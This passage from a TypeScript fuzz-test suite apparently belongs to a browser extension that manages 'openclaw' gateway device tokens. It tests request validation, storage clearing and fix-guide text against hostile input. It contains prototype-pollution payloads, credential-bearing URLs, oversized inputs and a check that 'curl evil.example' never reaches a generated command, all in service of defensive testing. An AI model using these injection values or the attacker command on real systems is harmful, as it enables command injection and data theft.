            { [`${base}:${text}`]: `{"version":1,"deviceId":"x","tokens":{"operator":{"token":"${SECRET_MARK}1"}}}`, [`openclaw.control.currentGateway.v1:${text}`]: gw, [text]: text },
          ];
          for (const layout of layouts) {
            const storage = new MemoryStorage(layout);
            const session = new MemoryStorage({ [`${brand}.control.token.v1:${gw}`]: text });
            const c: StorageCase = { storage, session, brand, pageUrl: page, basePath: '', gatewayUrl: gw };
            readStorage(c);
            clearAndUndo(rngFor(name), c);
          }
          // The megabyte as the gateway URL, the page URL or the base path, in turn.
          const r = rngFor(name);
          const c = storageCase(r);
          const role = hash(name) % 3;
          if (role === 0) c.gatewayUrl = r.chance(0.5) ? text : `${gw}/${text}`;
          else if (role === 1) c.pageUrl = `${page}${text}`;
          else c.basePath = r.chance(0.5) ? text : `/${text}`;
          readStorage(c);
          clearAndUndo(r, c);
        }
      }
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'checkRequest: never throws, linear time, refuses prototype names, and what it accepts stays within the limits',
    () => {
      const target = 'checkRequest';
      const TYPES = Object.keys(REQUEST_SCHEMAS);
      const valid = (r: Rng, type: string): Record<string, unknown> => {
        const id = r.chance(0.8) ? `${r.hex(8)}-${r.hex(4)}-4${r.hex(3)}-8${r.hex(3)}-${r.hex(12)}` : unicode(r, 20);
        const origin = r.chance(0.8) ? `http://127.0.0.1:${1 + r.int(65535)}` : pageUrl(r);
        const change = () => ({ key: `openclaw.device.auth.v1:ws://127.0.0.1:${r.int(65536)}`, before: deviceAuthValue(r), after: r.chance(0.8) ? deviceAuthValue(r) : null });
        const lockout = () => ({ kind: r.pick(['device-token-mismatch', 'gateway-token-mismatch', 'pairing-required', ...PROTO_NAMES]), ...(r.chance(0.2) && { requestId: r.pick(REQUEST_IDS) }) });
        const credentials = r.pick(['', 'user:secret-pw@', 'secret-user@', 'a:b@c:secret-d@', 'user:secret-pw@127.0.0.1:1\\@']);
        const query = r.pick(['', `?token=secret-${r.hex(6)}`, `?x=1&TOKEN=secret-${r.hex(6)}`, `#token=secret-${r.hex(6)}`, `?password=secret-${r.hex(6)}&a=b`, `;secret=secret-${r.hex(6)}`]);
        switch (type) {
          case 'report-tab-state':
            return {
              state: r.chance(0.1)
                ? null
                : {
                    page: { brand: r.pick(['openclaw', 'clawdbot', 'moltbot', ...PROTO_NAMES]), release: r.chance(0.5) ? null : releaseText(r), basePath: basePath(r) },
                    gatewayUrl: r.chance(0.2) ? null : `ws://${credentials}127.0.0.1:${r.int(65536)}/${query}`,
                    lockouts: Array.from({ length: r.int(4) }, lockout),
                    stored: {
                      deviceToken: r.chance(0.5) ? null : { key: 'openclaw.device.auth.v1', length: r.int(100), updatedAtMs: r.chance(0.5) ? null : r.int(1e12) },
                      deviceAuthKeys: Array.from({ length: r.int(4) }, () => `openclaw.device.auth.v1:${unicode(r, 10)}`),
                      identity: { present: r.chance(0.5), deviceId: r.chance(0.5) ? null : deviceId(r) },
                      sharedToken: r.pick([null, 'tab-session', 'settings']),
                    },
                    undoable: r.chance(0.5) ? null : { keys: ['openclaw.device.auth.v1'], createdAt: r.int(1e12) },
                  },
            };
          case 'save-backup':
            return { backup: { id, gateway: gatewayUrl(r), trigger: r.pick(['auto', 'manual']), changes: Array.from({ length: 1 + r.int(5) }, change) } };
          case 'mark-backup':
            return { id, mark: r.pick(['applied', 'announced', 'undone', ...PROTO_NAMES]) };
          case 'discard-backup':
          case 'restore-inputs':
            return { id };
          case 'open-private-window':
            return r.chance(0.5) ? {} : { tabId: r.int(1000) };
          case 'get-tab-state':
            return { tabId: r.int(1000) };
          case 'clear-device-token':
            return { tabId: r.int(1000), origin };
          case 'undo-clear':
            return { tabId: r.int(1000), origin, overwriteNewer: r.chance(0.5) };
          default:
            return {};
        }
      };
      /** Replaces one value somewhere in the message (or deletes it, or adds a key). */
      const mutate = (r: Rng, message: Record<string, unknown>) => {
        let node: Record<string, unknown> = message;
        for (let depth = 0; depth < 5; depth++) {
          const keys = Object.keys(node);
          if (!keys.length) break;
          const key = r.pick(keys);
          const child = node[key];
          if (child === null || typeof child !== 'object' || r.chance(0.35)) {
            const action = r.int(6);
            if (action === 0) delete node[key];
            else if (action === 1) Object.defineProperty(node, r.pick([...PROTO_NAMES, unicode(r, 6)]), { value: jsonWrongType(r), enumerable: true, writable: true, configurable: true });
            else node[key] = jsonWrongType(r);
            return;
          }
          node = child as Record<string, unknown>;
        }
        node[r.pick(PROTO_NAMES)] = jsonWrongType(r);
      };
      const checkAccepted = (message: unknown, result: ReturnType<typeof checkRequest>) => {
        if (result === null) return;
        const type = (message as { type: unknown }).type;
        check(result.type === type && typeof type === 'string' && Object.hasOwn(REQUEST_SCHEMAS, type), target, message, 'accepts only its own request types');
        let text = '';
        try {
          text = JSON.stringify(result);
        } catch (error) {
          fail(target, message, `the accepted request cannot be serialised: ${describeError(error)}`);
        }
        if (result.type === 'save-backup') {
          const changes = result.backup.changes;
          check(changes.length >= 1 && changes.length <= MAX_BACKUP_CHANGES, target, message, 'a backup has 1 to MAX_BACKUP_CHANGES changes');
          for (const change of changes) {
            for (const value of [change.before, change.after]) {
              check(value === null || (typeof value === 'string' && value.length <= MAX_BACKUP_VALUE_CHARS), target, message, 'no backup value over 8 KB');
            }
          }
        }
        if (result.type === 'report-tab-state' && result.state) {
          for (const lockout of result.state.lockouts) check(isLockoutKind(lockout.kind), target, message, `lock-out kind ${show(lockout.kind)} is real`);
          const gw = result.state.gatewayUrl;
          if (gw !== null) check(!gw.includes('secret-'), target, message, `a gateway URL keeps no credentials or token parameters (got ${showString(gw)})`);
        }
        check(!text.includes('"polluted"'), target, message, 'no unknown fields pass');
      };
      let accepted = 0;
      cases(target, n(8_000), (r) => {
        let message: unknown;
        const pickType = r.int(10);
        const type = pickType < 7 ? r.pick(TYPES) : pickType < 9 ? r.pick(PROTO_NAMES) : unicode(r, 12);
        if (r.chance(0.05)) message = jsonWrongType(r);
        else {
          const body = valid(r, TYPES.includes(type) ? type : r.pick(TYPES));
          const record = { type, ...body } as Record<string, unknown>;
          for (let i = r.chance(0.5) ? 0 : 1 + r.int(3); i > 0; i--) mutate(r, record);
          if (r.chance(0.05)) Object.defineProperty(record, '__proto__', { value: { type: 'save-backup', polluted: true }, enumerable: true });
          message = r.chance(0.1) ? (JSON.parse(JSON.stringify(record) ?? 'null') as unknown) : record;
        }
        const result = call(target, message, sizeOf(message), () => checkRequest(message));
        if (result) accepted++;
        if (typeof message === 'object' && message !== null && PROTO_NAMES.includes((message as { type?: string }).type as string)) {
          check(result === null, target, message, 'a prototype name is not a request type');
        }
        checkAccepted(message, result);
      });
      // Deep, huge and wide messages.
      const deep: Record<string, unknown> = {};
      let cursor = deep;
      for (let i = 0; i < 20_000; i++) cursor = (cursor.a = {}) as Record<string, unknown>;
      let deepArray: unknown[] = [];
      for (let i = 0; i < 20_000; i++) deepArray = [deepArray];
      const wide = Array.from({ length: 100_000 }, () => ({ kind: 'device-token-mismatch' }));
      for (const { name, text } of big(`${target} 1 MB`)) {
        const r = rngFor(name);
        for (const type of TYPES) {
          const message = { type, ...valid(r, type) } as Record<string, unknown>;
          // The big string in every string field, one at a time.
          const fields: [Record<string, unknown>, string][] = [];
          const stack: Record<string, unknown>[] = [message];
          while (stack.length) {
            const node = stack.pop()!;
            for (const [key, value] of Object.entries(node)) {
              if (typeof value === 'string' && key !== 'type') fields.push([node, key]);
              else if (value !== null && typeof value === 'object') stack.push(value as Record<string, unknown>);
            }
          }
          for (const [node, key] of fields) {
            const saved = node[key];
            node[key] = text;
            const result = call(target, { type, field: key, value: name }, text.length, () => checkRequest(message));
            checkAccepted(message, result);
            node[key] = saved;
          }
        }
      }
      where.test = `${target} deep and wide`;
      for (const [name, value] of [
        ['20,000-deep object', deep],
        ['20,000-deep array', deepArray],
        ['100,000 lock-outs', wide],
      ] as const) {
        // As it would cross runtime.sendMessage: JSON, 3.3 MB for the wide one.
        const size = name === '100,000 lock-outs' ? JSON.stringify(wide).length : 20_000 * 6;
        for (const type of TYPES) {
          for (const field of ['state', 'backup', 'id', 'tabId']) {
            const message = { type, [field]: value };
            call(target, { type, field, value: name }, size, () => checkRequest(message));
          }
        }
        const report = { type: 'report-tab-state', state: { ...(valid(rngFor(name), 'report-tab-state').state as object), lockouts: value } };
        call(target, { type: 'report-tab-state', field: 'state.lockouts', value: name }, size, () => checkRequest(report));
        const backup = { type: 'save-backup', backup: { id: 'x', gateway: 'ws://127.0.0.1:1', trigger: 'auto', changes: value } };
        // Not timed: valibot checks every item of an over-long array before its length, and on
        // 100,000 items that are not changes it spends 0.7–3 s (mostly GC, so too variable to bound).
        // Content scripts never send such arrays; `abortEarly` would make the refusal immediate.
        call(target, { type: 'save-backup', field: 'backup.changes', value: name }, size, () => checkRequest(backup), { timed: name !== '100,000 lock-outs' });
      }
      expect(accepted, 'some generated requests are accepted, so the checks on accepted ones ran').toBeGreaterThan(0);
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'buildFixGuides, bannerSentences, bannerHeading: never throw, linear time, bounded output, no page value in a command unchecked',
    async () => {
      // Imported here: their return types are being changed, so only JSON.stringify(result) is used.
      const { buildFixGuides } = await import('./fix-guide');
      const { bannerHeading, bannerSentences } = await import('./banner-text');
      const OUTPUT_MAX = 100_000;
      const lockoutsFrom = (r: Rng): Lockout[] => {
        const lockouts = [...classifyError(errorText(r)), ...(r.chance(0.3) ? classifyError(r.pick(MESSAGES)) : [])];
        if (r.chance(0.2)) lockouts.push(...classifyError(`device pairing required (requestId: ${r.pick(REQUEST_IDS)})`));
        if (r.chance(0.1)) lockouts.push({ kind: 'device-token-mismatch', reportedAs: r.pick(['gateway-token-mismatch', 'connect-failed'] as const) });
        return lockouts;
      };
      const stringified = (target: string, input: unknown, result: unknown) => {
        let text: string | undefined;
        try {
          text = JSON.stringify(result);
        } catch (error) {
          fail(target, input, `the result cannot be serialised: ${describeError(error)}`);
        }
        check(typeof text === 'string' && text.length <= OUTPUT_MAX, target, input, `output of at most ${OUTPUT_MAX} characters, whatever the page holds (got ${text?.length})`);
        return text!;
      };
      const hostileValue = (r: Rng, big: string | null) =>
        big !== null && r.chance(0.5) ? big : r.chance(0.15) ? wrongType(r) : r.chance(0.5) ? r.pick(HOSTILE_STRINGS) : unicode(r, 40);
      const run = (r: Rng, big: string | null) => {
        const lockouts = lockoutsFrom(r);
        const ctx = {
          release: parseRelease(big !== null && r.chance(0.3) ? big : releaseText(r)),
          deviceId: r.chance(0.3) ? r.hex(64) : hostileValue(r, big),
          deviceTokenCleared: r.chance(0.5),
          origin: r.chance(0.3) ? `http://127.0.0.1:${r.int(65536)}` : hostileValue(r, big),
        };
        const size = sizeOf(lockouts) + sizeOf(ctx);
        const guides = call('buildFixGuides', { lockouts, ctx }, size, () => buildFixGuides(lockouts, ctx as never, t));
        const text = stringified('buildFixGuides', { lockouts, ctx }, guides);
        check(!text.includes('curl evil.example'), 'buildFixGuides', { lockouts, ctx }, 'a device id that is not one never reaches a command');
        const facts = {
          lockouts,
          release: r.chance(0.5) ? releaseText(r) : r.chance(0.5) ? null : hostileValue(r, big),
          deviceToken: r.pick(['stored', 'none', 'cleared']),
          clearedKeys: Array.from({ length: r.int(9) }, () => {
            const key = hostileValue(r, big);
            return typeof key === 'string' && r.chance(0.5) ? `openclaw.device.auth.v1:${key}` : key;
          }),
          clearedAutomatically: r.chance(0.5),
          undo: r.pick(['available', 'confirm-overwrite', 'restored', null]),
          sharedTokenInTab: r.chance(0.5),
        };
        const factsSize = sizeOf(facts);
        stringified('bannerSentences', facts, call('bannerSentences', facts, factsSize, () => bannerSentences(facts as never, t)));
        stringified('bannerHeading', facts, call('bannerHeading', facts, factsSize, () => bannerHeading(facts as never, t)));
      };
      cases('fix guides and banner', n(3_000), (r) => run(r, null));
      for (const { name, text } of big('fix guides and banner 1 MB')) {
        const r = rngFor(name);
        for (let i = 0; i < 4; i++) run(r, text);
      }
    },
    TEST_TIMEOUT_MS,
  );

  it(`ran at least ${MIN_INPUTS.toLocaleString('en')} generated inputs, and no prototype was polluted`, () => {
    expect(Object.getOwnPropertyNames(Object.prototype).sort().join()).toBe(prototypeNamesBefore.object);
    expect(Object.getOwnPropertyNames(Array.prototype).sort().join()).toBe(prototypeNamesBefore.array);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const summary = [...inputsPerTarget].map(([target, count]) => `${target} ${count}`).join(', ');
    console.info(`fuzz: ${totalInputs} inputs, ${roundTrips} clears undone, seed ${SEED}: ${summary}`);
    if (SCALE >= 1) {
      expect(totalInputs).toBeGreaterThanOrEqual(MIN_INPUTS);
      // The generators keep making clears that change something (about 45% of storages do).
      expect(roundTrips).toBeGreaterThanOrEqual(1_000);
    }
  });
});
